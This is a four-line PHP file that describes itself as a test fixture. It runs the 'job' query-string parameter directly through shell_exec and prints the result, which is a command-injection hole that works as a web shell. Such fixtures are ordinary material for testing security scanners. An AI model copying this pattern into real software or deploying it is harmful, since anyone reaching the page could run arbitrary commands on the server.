<?php
// test fixture: a command from the query string interpolated into a constant, run by the shell
define('JOB', "{$_GET['job']}");
echo '<pre>' . shell_exec(JOB) . '</pre>';
